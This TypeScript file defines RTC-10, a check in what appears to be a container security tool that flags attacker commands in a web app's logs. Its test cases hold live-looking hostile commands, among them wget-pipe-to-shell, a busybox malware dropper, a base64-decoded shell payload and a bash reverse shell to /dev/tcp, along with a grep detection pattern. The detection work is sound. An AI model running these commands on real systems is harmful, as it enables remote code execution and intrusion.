import { cannotTell, defineCheck, fail, type Outcome } from '../../core/check.js';
import { partlySeen, seen, unseen } from '../../core/example.js';
import { defaultPolicy, type Policy } from '../../core/policy.js';
import { containers } from '../../facts/containers.js';
import { type Call, detections } from '../../facts/detections.js';
import { exampleContainer } from '../../facts/examples.js';
import { logs } from '../../facts/logs.js';
import { policy } from '../../facts/policy.js';
import { isDeclared } from '../shared/destinations.js';
import { exampleCall, exampleDetections } from '../shared/example-detections.js';
import { exampleLog, exampleShortLog } from '../shared/example-log.js';
import { quietLogs } from '../shared/judge-logs.js';
import { type SameCalls, sameCalls } from '../shared/same-calls.js';

/** Most distinct commands that are listed each by itself. */
const mostFindings = 30;

/** A host that the command fetches from or talks to and that nobody declared. */
function strangerOf(call: Call, declared: Policy): { value: string; isAddress: boolean } | null {
  for (const { type, value, role, scope } of call.analysis.indicators) {
    if (role === 'mentioned' || role === 'dropped-file' || role === 'wallet' || type === 'url') continue;
    if ((type === 'ipv4' || type === 'ipv6') && scope !== 'public') continue;
    if (!isDeclared(declared, { host: value, port: null, from: null })) return { value, isAddress: type !== 'domain' };
  }
  return null;
}

function judge({ call, count }: SameCalls, declared: Policy): Outcome | null {
  const { weight, behaviours } = call.analysis;
  const stranger = strangerOf(call, declared);
  const text = call.command.slice(0, 200);
  const at = `${call.at === null ? '' : ` at ${call.at.toISOString()}`}${count === 1 ? '' : `, ${count} calls`}`;
  const pid = call.hostPid === null ? '' : `, pid ${call.hostPid}`;
  const attack = behaviours.find((behaviour) => behaviour.weight === 'attack');
  if (weight === 'attack' || stranger?.isAddress === true) {
    const why = attack?.what ?? `talks to ${stranger?.value ?? 'a foreign address'}`;
    const recursion = call.recursion ? `; its ${call.rawLines} lines are one call (the monitor recursed)` : '';
    return fail(call.evidence, {
      subject: call.subject,
      what: `the app was made to run \`${text}\`${at}${pid}: ${why}; whether it ran: ${call.executed} (${call.executedBecause})${recursion}`,
      location: `${call.subject}, log line ${call.evidence[0].line ?? '?'}`,
    });
  }
  // What passed a known hole without more is RTC-09's.
  if ((weight !== 'sign' && stranger === null) || call.knownSink !== null) return null;
  const why = behaviours.find((behaviour) => behaviour.weight === 'sign')?.what ?? `talks to ${stranger?.value ?? '?'}`;
  return cannotTell('not-collected', `the app ran \`${text}\`${at}: ${why}`, {
    subject: call.subject,
    evidence: call.evidence,
    settle: `Which code of yours runs \`${text.slice(0, 60)}\`? Name it, or keep the log and treat it as an intrusion.`,
  });
}

/** RTC-10: commands in the app's logs that no web app has a use for (rules FETCH_AND_RUN, FOREIGN_ADDRESS). */
export const appRanAttackCommand = defineCheck({
  id: 'RTC-10',
  title: 'The app was made to run a command of an attacker',
  questions: ['Q4'],
  severity: 'critical',
  required: true,
  needs: { detections, containers, logs, policy },
  decide: (facts, context) => {
    const calls = facts.detections.value.calls.filter((call) => !call.requestEcho);
    const found = sameCalls(calls)
      .map((same) => judge(same, facts.policy.value))
      .filter((outcome) => outcome !== null);
    if (found.length > 0) return found.slice(0, mostFindings);
    const what = `${calls.length} commands in its log, none of them an attacker's`;
    return quietLogs(facts.containers, facts.logs, context.windowSince, what);
  },
  whyItMatters:
    'wget to a shell, chmod 777, base64 -d, /dev/tcp: such text in the log of a web app has no harmless author. A monitor that counted wrongly explains the count, never the content.',
  verifyByHand: 'docker logs --timestamps CONTAINER 2>&1 | grep -nE "wget|curl|chmod|base64 -d|/dev/tcp|busybox"',
  remediation: {
    text: 'Keep the log. Close the hole (NXT, PAY, IMG), rebuild from a clean image, change every secret that the app held.',
    commands: ['docker logs --timestamps CONTAINER > evidence-app.log 2>&1', 'candor check --json'],
  },
  references: ['ATT&CK T1059.004', 'ATT&CK T1105'],
  examples: {
    pass: [
      { title: 'no commands', facts: withCalls([]) },
      {
        title: 'the ordinary commands of this stack',
        facts: withCalls(
          [
            'ffprobe -v quiet -print_format json /media/a.mp3',
            'git config --local --get remote.origin.url',
            'psql -h db -c "select 1"',
          ].map((command) => exampleCall(command)),
        ),
      },
      {
        title: 'the text came with a request and was refused',
        facts: withCalls([exampleCall('wget -qO- http://203.0.113.9/a | sh', { requestEcho: true })]),
      },
      {
        title: 'a download from a declared host',
        facts: {
          ...withCalls([exampleCall('curl -s http://127.0.0.1:3000/health')]),
          policy: seen(defaultPolicy),
        },
      },
    ],
    fail: [
      'wget -qO- http://203.0.113.9/a | sh',
      'cd /dev; busybox wget http://51.81.104.115/nuts/x86; chmod 777 x86; ./x86',
      'echo aWQK | base64 -d | sh',
      'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
      'curl -o /app/x http://203.0.113.9/x',
    ].map((command) => ({
      title: command,
      facts: withCalls([exampleCall(command, { recursion: true, executed: 'no', rawLines: 8250 })]),
    })),
    blind: [
      {
        title: 'no logs',
        facts: {
          detections: unseen(),
          containers: seen([exampleContainer()]),
          logs: unseen(),
          policy: seen(defaultPolicy),
        },
      },
      { title: 'the log begins an hour ago', facts: { ...withCalls([]), logs: seen([exampleShortLog()]) } },
      { title: 'cut by a filter', facts: { ...withCalls([]), detections: partlySeen(exampleDetections()) } },
      { title: 'somebody looks around', facts: withCalls([exampleCall('whoami; uname -a')]) },
    ],
  },
});

function withCalls(calls: readonly Call[]) {
  return {
    detections: seen(exampleDetections({ calls })),
    containers: seen([exampleContainer()]),
    logs: seen([exampleLog()]),
    policy: seen(defaultPolicy),
  };
}
